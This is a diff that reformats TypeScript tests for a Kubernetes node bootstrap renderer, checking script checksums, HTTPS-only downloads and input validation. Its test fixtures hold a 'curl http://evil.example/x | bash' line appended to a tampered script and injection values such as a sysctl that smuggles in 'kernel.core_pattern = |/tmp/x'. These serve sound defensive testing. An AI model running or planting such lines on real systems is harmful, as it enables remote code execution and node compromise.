@@ -395,7 +395,9 @@ describe('External bootstrap, run in the sandbox', () => {
     const httpURL = 'http://files.example/join-ecs-nodes.sh';
     const sha = createHash('sha256').update(userScript).digest('hex');
     const ext = (scriptSHA256: string | undefined) =>
-      external({ external: { ...external().external!, scriptURL: httpURL, ...(scriptSHA256 ? { scriptSHA256 } : {}) } }); // prettier-ignore
+      external({
+        external: { ...external().external!, scriptURL: httpURL, ...(scriptSHA256 ? { scriptSHA256 } : {}) },
+      });
     expect(() => renderUserData(ext(undefined))).toThrow(
       /scriptURL[\s\S]*https, or plain http with scriptSHA256/,
     );
@@ -403,14 +405,18 @@ describe('External bootstrap, run in the sandbox', () => {
     expect(ok.exitCode).toBe(0);
     expect(ok.log).toContain(`script checksum verified (${sha})`);
     expect(await ok.file('/var/lib/seen-env')).toContain('KUBE_VERSION=1.34.1');
-    const tampered = await boot(ext(sha), { http: { [httpURL]: `${userScript}curl http://evil.example/x | bash\n` } }); // prettier-ignore
+    const tampered = await boot(ext(sha), {
+      http: { [httpURL]: `${userScript}curl http://evil.example/x | bash\n` },
+    });
     expect(tampered.exitCode).toBe(1);
     expect(await tampered.file('/var/lib/nodepool-bootstrap/result')).toBe('failed:external-script\n');
     expect(tampered.log).toContain(`not the pool's scriptSHA256 ${sha}: not running it`);
     expect(await tampered.file('/var/lib/seen-env')).toBeUndefined();
     // an https script is fetched with https only, redirects included
     const https = await boot(external(), { http: { [scriptURL]: userScript } });
-    expect(callsOf(https.calls, 'curl').find((c) => c.includes(scriptURL))).toEqual(expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https'])); // prettier-ignore
+    expect(callsOf(https.calls, 'curl').find((c) => c.includes(scriptURL))).toEqual(
+      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
+    );
   });
 
   test('a script URL that cannot be fetched fails the boot at that step', async () => {
@@ -425,10 +431,14 @@ describe('the CloudMonitor agent', () => {
   test('its installer is fetched over https only (redirects included)', async () => {
     const url =
       'https://cms-agent-cn-hangzhou.oss-cn-hangzhou-internal.aliyuncs.com/Argus/agent_install_ecs-1.7.sh';
-    const r = await boot(managed({ cloudMonitor: true }), { http: { [clusterInfoUrl]: clusterInfo, [url]: '#!/bin/bash\ntouch /var/lib/cms-installed\n' } }); // prettier-ignore
+    const r = await boot(managed({ cloudMonitor: true }), {
+      http: { [clusterInfoUrl]: clusterInfo, [url]: '#!/bin/bash\ntouch /var/lib/cms-installed\n' },
+    });
     expect(r.exitCode).toBe(0);
     expect(await r.file('/var/lib/cms-installed')).toBe('');
-    expect(callsOf(r.calls, 'curl').find((c) => c.includes(url))).toEqual(expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https'])); // prettier-ignore
+    expect(callsOf(r.calls, 'curl').find((c) => c.includes(url))).toEqual(
+      expect.arrayContaining(['--proto', '=https', '--proto-redir', '=https']),
+    );
   });
 });
 
@@ -487,14 +497,24 @@ describe('rendering', () => {
   });
 
   test('the renderer checks its own input: a label that would add labels, a multi-line sysctl, a bad pool name', () => {
-    expect(() => renderUserData(managed({ labels: { workload: 'a,node-role.kubernetes.io/control-plane=' } }))).toThrow(/labels[\s\S]*a label value/); // prettier-ignore
+    expect(() =>
+      renderUserData(managed({ labels: { workload: 'a,node-role.kubernetes.io/control-plane=' } })),
+    ).toThrow(/labels[\s\S]*a label value/);
     expect(() => renderUserData(managed({ labels: { 'bad key': 'x' } }))).toThrow(/a label key/);
-    expect(() => renderUserData(managed({ taints: [{ key: 'k', value: 'v:NoExecute,x=y', effect: 'NoSchedule' }] }))).toThrow(/taints[\s\S]*a label value/); // prettier-ignore
-    expect(() => renderUserData(managed({ sysctls: { 'vm.swappiness': '10\nkernel.core_pattern = |/tmp/x' } }))).toThrow(/sysctls[\s\S]*one line/); // prettier-ignore
+    expect(() =>
+      renderUserData(managed({ taints: [{ key: 'k', value: 'v:NoExecute,x=y', effect: 'NoSchedule' }] })),
+    ).toThrow(/taints[\s\S]*a label value/);
+    expect(() =>
+      renderUserData(managed({ sysctls: { 'vm.swappiness': '10\nkernel.core_pattern = |/tmp/x' } })),
+    ).toThrow(/sysctls[\s\S]*one line/);
     expect(() => renderUserData(managed({ pool: 'Has Spaces' }))).toThrow(/pool[\s\S]*a pool name/);
     expect(() => renderUserData(managed({ pool: 'p'.repeat(64) }))).toThrow(/pool/);
-    expect(() => renderUserData(managed({ kubelet: { systemReserved: { 'cpu\nmaxPods': '1' } } }))).toThrow(/resource or signal name/); // prettier-ignore
-    expect(renderUserData(managed({ pool: 'web.v2', labels: { 'team.example/app': 'api_v1.2' } })).script).toContain('team.example/app=api_v1.2'); // prettier-ignore
+    expect(() => renderUserData(managed({ kubelet: { systemReserved: { 'cpu\nmaxPods': '1' } } }))).toThrow(
+      /resource or signal name/,
+    );
+    expect(
+      renderUserData(managed({ pool: 'web.v2', labels: { 'team.example/app': 'api_v1.2' } })).script,
+    ).toContain('team.example/app=api_v1.2');
   });
 
   test('the join token stays out of the render result except the script itself', () => {
